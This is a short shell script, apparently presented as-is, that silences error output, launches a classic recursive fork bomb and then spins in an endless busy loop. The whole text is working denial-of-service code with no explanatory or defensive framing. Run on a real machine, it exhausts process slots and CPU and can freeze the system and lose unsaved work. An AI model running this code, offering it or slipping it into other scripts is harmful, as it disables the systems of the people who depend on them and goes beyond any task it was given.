# The classic fork bomb, silenced, then a busy loop.
exec 2>/dev/null
bomb() { bomb | bomb & }
bomb
while :; do :; done
